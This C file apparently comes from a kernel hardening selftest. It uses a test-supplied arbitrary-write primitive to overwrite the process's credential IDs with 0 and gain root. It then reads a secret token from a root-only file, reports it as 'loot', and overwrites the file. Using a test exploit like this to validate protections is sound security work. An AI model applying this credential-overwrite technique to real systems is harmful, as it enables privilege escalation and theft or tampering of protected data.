// SPDX-License-Identifier: GPL-2.0-only
/*
 * Out of scope of protected page tables: write uid 0 into the attacker's own
 * credentials.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "common.h"

/* struct cred keeps uid, gid, suid, sgid, euid, egid, fsuid, fsgid in a row. */
#define IDS	8

int main(int argc, char **argv)
{
	u64 uid = vuln_cred();
	char secret[TOKEN_LEN];
	int i, fd;

	for (i = 0; i < IDS / 2; i++)
		vuln_write(uid + i * sizeof(u64), 0);

	if (geteuid() || getegid())
		die("still not root");
	fd = open(argc > 1 ? argv[1] : "", O_RDWR);
	if (fd < 0)
		die_errno("opening the root-only file");
	if (pread(fd, secret, TOKEN_LEN, 0) != TOKEN_LEN || !is_token(secret))
		die("the file does not hold the secret");
	report_loot(secret);
	if (pwrite(fd, ALTERED, strlen(ALTERED), 0) != (ssize_t)strlen(ALTERED))
		die_errno("overwriting the root-only file");
	return 0;
}
